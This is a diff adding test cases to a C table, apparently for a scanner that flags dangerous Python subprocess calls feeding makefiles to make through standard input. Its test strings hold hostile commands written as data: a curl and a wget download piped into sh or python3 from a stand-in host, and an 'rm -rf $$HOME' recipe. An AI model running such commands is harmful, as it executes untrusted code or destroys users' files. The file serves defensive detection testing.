@@ -546,6 +546,25 @@ static const struct {
      "import subprocess\nclass J:\n    pass\nj = J()\nsetattr(j, 'argv', ['sh', '-c', 'id'])\n"
      "subprocess.run(j.argv)\n",
      true},
+
+    /* make reading its makefile from its input: the recipes are analysed */
+    {"make -f - fed a makefile whose recipe pipes a download into a shell",
+     "import subprocess\nsubprocess.run(['make', '-f', '-'], input='all:\\n\\tcurl -s "
+     "https://x.example/i | sh\\n', text=True)\n",
+     true},
+    {"make -f /dev/stdin fed a recipe deleting $$HOME",
+     "import subprocess\nM = 'clean:\\n\\t@rm -rf $$HOME\\n'\n"
+     "subprocess.run(['make', '-f', '/dev/stdin', 'clean'], input=M)\n",
+     true},
+    {"make --makefile=- fed a recipe made by an f-string",
+     "import subprocess\ndef mk(u):\n    return f'all:\\n\\twget -qO- {u} | python3 -\\n'\n"
+     "subprocess.check_output(['gmake', '--makefile=-'], input=mk('http://x.example/b.py'))\n",
+     true},
+    {"make -f - fed compiler lines and make's variables",
+     "import subprocess\nM = ('CFLAGS ?= -O2\\n%.o: %.c\\n\\t$(CC) $(CFLAGS) -c -o $@ $<\\n'\n"
+     "     'clean:\\n\\t-$(RM) -r build $(@D)\\n')\n"
+     "subprocess.run(['make', '-f', '-', 'clean'], input=M, text=True)\n",
+     false},
 };
 
 static enum severity worst(const char *code, struct findings *f)
